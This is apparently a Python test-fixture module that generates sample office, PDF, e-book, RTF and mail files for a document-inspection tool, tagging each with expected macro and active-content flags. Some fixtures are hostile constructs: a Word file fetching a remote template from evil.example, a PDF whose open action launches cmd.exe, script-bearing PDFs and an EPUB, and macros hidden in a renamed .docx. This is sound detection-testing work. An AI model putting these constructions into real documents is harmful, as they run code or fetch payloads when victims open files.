"""Office documents as their libraries write them, PDF, rich text, books, mail."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

import docx
import openpyxl
import pikepdf
import pptx
import xlsxwriter
import xlwt

from tests.apps.inspection.corpus.media import picture, saved
from tests.apps.inspection.corpus.sample import Sample

_OOXML = "application/vnd.openxmlformats-officedocument"
DOCX = f"{_OOXML}.wordprocessingml.document"
XLSX = f"{_OOXML}.spreadsheetml.sheet"
PPTX = f"{_OOXML}.presentationml.presentation"
_PLAIN = {"active": False, "macros": False, "polyglot": False, "protected": False, "whole": True}
_LONG = "Heron flies at dawn, and nobody asks why. " * 40


def word(*paragraphs: str, pictured: bool = False) -> bytes:
    """A Word document."""
    document = docx.Document()
    for each in paragraphs or ("Hello",):
        document.add_paragraph(each)
    if pictured:
        document.add_picture(io.BytesIO(saved(picture(), "PNG")))
        document.add_table(3, 3)
    return _kept(document.save)


def sheet(rows: int = 5) -> bytes:
    """An Excel workbook."""
    book = openpyxl.Workbook()
    for row in range(rows):
        book.active.append([row, f"value {row}", row * 1.5])
    return _kept(book.save)


def _kept(save: object) -> bytes:
    into = io.BytesIO()
    save(into)  # type: ignore[operator]
    return into.getvalue()


def rezipped(
    data: bytes, added: dict[str, bytes], replaced: dict[str, bytes] | None = None
) -> bytes:
    """A zip with members added or replaced."""
    into = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(into, "w") as new:
        for entry in old.infolist():
            content = (replaced or {}).get(entry.filename, old.read(entry))
            new.writestr(entry, content)
        for name, content in added.items():
            new.writestr(name, content, zipfile.ZIP_DEFLATED)
    return into.getvalue()


def macro_sheet(vba: bytes) -> bytes:
    """A workbook with a macro project that Excel made."""
    into = io.BytesIO()
    book = xlsxwriter.Workbook(into, {"in_memory": True})
    book.add_worksheet().write(0, 0, "press")
    book.add_vba_project(io.BytesIO(vba), is_stream=True)
    book.close()
    return into.getvalue()


def office(vba: bytes) -> Iterator[Sample]:
    """Office documents in zip containers, and the older workbook."""
    for number, text in enumerate((("Hello",), (_LONG,), ("a", "b", "c"), (_LONG, _LONG))):
        yield Sample(f"letter-{number}.docx", word(*text), "document", DOCX, _PLAIN)
    yield Sample("pictured.docx", word(_LONG, pictured=True), "document", DOCX, _PLAIN)
    for rows in (1, 10, 1000):
        yield Sample(f"rows-{rows}.xlsx", sheet(rows), "document", XLSX, _PLAIN)
    yield Sample("made-otherwise.xlsx", _xlsxwriter(), "document", XLSX, _PLAIN)
    for layouts in (1, 3):
        yield Sample(f"slides-{layouts}.pptx", _slides(layouts), "document", PPTX, _PLAIN)
    for rows in (1, 300):
        yield Sample(f"rows-{rows}.xls", _xls(rows), "document", "application/vnd.ms-excel",
                     {"macros": False, "whole": True})  # fmt: skip
    yield Sample("macros.xlsm", macro_sheet(vba), "document",
                 "application/vnd.ms-excel.sheet.macroenabled.12", {"macros": True})  # fmt: skip
    hidden = rezipped(word(), {"word/vbaProject.bin": vba})
    yield Sample("macros-renamed.docx", hidden, "document", DOCX, {"macros": True})
    yield Sample("vbaProject.bin", vba, "document", None, {"macros": True})
    template = _template_elsewhere()
    yield Sample("template-elsewhere.docx", template, "document", DOCX, {"active": True})
    yield from _open_documents()
    yield from _books()


def _xlsxwriter() -> bytes:
    into = io.BytesIO()
    book = xlsxwriter.Workbook(into, {"in_memory": True})
    page, chart = book.add_worksheet(), book.add_chart({"type": "line"})
    page.write_column(0, 0, [1, 5, 2])
    chart.add_series({"values": "=Sheet1!$A$1:$A$3"})
    page.insert_chart(0, 2, chart)
    book.close()
    return into.getvalue()


def _slides(count: int) -> bytes:
    deck = pptx.Presentation()
    for number in range(count):
        deck.slides.add_slide(deck.slide_layouts[number]).shapes.title.text = _LONG
    return _kept(deck.save)


def _xls(rows: int) -> bytes:
    book = xlwt.Workbook()
    page = book.add_sheet("first")
    for row in range(rows):
        page.write(row, 0, f"value {row}")
    return _kept(book.save)


def _template_elsewhere() -> bytes:
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    return rezipped(word(), {"word/_rels/settings.xml.rels": relation.encode()})


def open_document(kind: str, added: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument container: `text`, `spreadsheet`, `presentation` or `graphics`."""
    office_ns = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    content = (
        f'<?xml version="1.0"?><office:document-content {office_ns}><office:body/>'
        "</office:document-content>"
    )
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as file:
        file.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        file.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        file.writestr("styles.xml", content.replace("content>", "styles>"), zipfile.ZIP_DEFLATED)
        file.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>')
        file.writestr("Thumbnails/thumbnail.png", saved(picture(), "PNG"))
        for name, data in (added or {}).items():
            file.writestr(name, data)
    return into.getvalue()


def _open_documents() -> Iterator[Sample]:
    for kind in ("text", "spreadsheet", "presentation", "graphics"):
        media_type = f"application/vnd.oasis.opendocument.{kind}"
        yield Sample(f"plain.{kind}.odf", open_document(kind), "document", media_type, _PLAIN)
    basic = {"Basic/Standard/Module1.xml": b'<?xml version="1.0"?><script:module/>'}
    yield Sample("macros.odt", open_document("text", basic), "document", None, {"macros": True})
    locked = b'<?xml version="1.0"?><manifest><encryption-data/></manifest>'
    sealed = rezipped(open_document("text"), {}, {"META-INF/manifest.xml": locked})
    yield Sample("password.odt", sealed, "document", None, {"protected": True, "whole": False})


def _books() -> Iterator[Sample]:
    for scripted in (False, True):
        page = "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>Once</p></body></html>"
        if scripted:
            page = page.replace("<p>", "<script>alert(1)</script><p>")
        into = io.BytesIO()
        with zipfile.ZipFile(into, "w") as file:
            file.writestr("mimetype", "application/epub+zip")
            file.writestr("META-INF/container.xml", '<?xml version="1.0"?><container/>')
            file.writestr("OEBPS/one.xhtml", f'<?xml version="1.0"?>{page}', zipfile.ZIP_DEFLATED)
            file.writestr("OEBPS/style.css", "p { color: black; margin: 0; }\n" * 5)
        yield Sample(f"book-{scripted}.epub", into.getvalue(), "document", "application/epub+zip",
                     {"active": scripted})  # fmt: skip


# ---- PDF -----------------------------------------------------------------------------------------


def pdf(change: object = None, **said: object) -> bytes:
    """A PDF of one page, changed by a function before it is written."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change is not None:
        change(document)  # type: ignore[operator]
    into = io.BytesIO()
    document.save(into, **said)  # type: ignore[arg-type]
    return into.getvalue()


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def attached(name: str, data: bytes) -> object:
    """A change that attaches a file."""

    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, data, filename=name)

    return change


def pdfs() -> Iterator[Sample]:
    """PDF of every sort."""
    kind = ("document", "application/pdf")
    yield Sample("plain.pdf", pdf(), *kind, _PLAIN)
    objects = pikepdf.ObjectStreamMode.generate
    yield Sample("streams.pdf", pdf(object_stream_mode=objects), *kind, _PLAIN)
    yield Sample("picture.pdf", saved(picture(), "PDF"), *kind, _PLAIN)
    pages = saved(picture(), "PDF", save_all=True, append_images=[picture(seed=3)] * 9)
    yield Sample("pages.pdf", pages, *kind, _PLAIN)
    yield Sample("script.pdf", pdf(_script), *kind, {"active": True})
    yield Sample(
        "script-streams.pdf", pdf(_script, object_stream_mode=objects), *kind, {"active": True}
    )
    yield Sample("launch.pdf", pdf(_launch), *kind, {"active": True})
    yield Sample("shifted.pdf", b"\n" * 300 + pdf(), *kind)
    locked = pdf(encryption=pikepdf.Encryption(user="secret", owner="more"))
    yield Sample("password.pdf", locked, *kind, {"protected": True, "whole": False})
    owner = pdf(encryption=pikepdf.Encryption(user="", owner="more"))
    yield Sample("owner.pdf", owner, *kind, {"protected": False, "whole": True})
    yield Sample("half.pdf", pages[: len(pages) // 2], *kind)
    note = pdf(attached("note.txt", b"a plain note, which is text\n" * 4))
    yield Sample("attachment.pdf", note, *kind, {"inside": [["text", "text/plain"]]})


# ---- Rich text, mail -----------------------------------------------------------------------------

EML = (
    b"Return-Path: <a@example.test>\nFrom: A <a@example.test>\nTo: b@example.test\nSubject: plan\n"
    b"Message-ID: <1@example.test>\nMIME-Version: 1.0\n"
    b'Content-Type: multipart/mixed; boundary="x"\n\n'
    b"--x\nContent-Type: text/plain\n\nHello\n--x\n"
)


def others() -> Iterator[Sample]:
    """Rich text, mail, PostScript."""
    rich = rb"{\rtf1\ansi{\fonttbl\f0 Helvetica;}\f0\fs24 Hello, \b heron\b0 !\par}"
    for number in (1, 30):
        data = rich[:-1] + rb"\par more " * number + b"}"
        yield Sample(f"rich-{number}.rtf", data, "document", "application/rtf", _PLAIN)
    mail = EML.partition(b"--x\nContent-Type: text/plain\n\nHello\n--x\n")[0] + b"--x--\n"
    yield Sample("mail.eml", mail, "document", "message/rfc822")
    draw = b"%!PS-Adobe-3.0\n/Times-Roman findfont 12 scalefont setfont 72 72 moveto (hi) show\n"
    yield Sample("page.ps", draw + b"showpage\n" * 3, "document", "application/postscript",
                 {"active": True})  # fmt: skip
    yield Sample("picture.eps", saved(picture(), "EPS"), "document", "application/postscript")
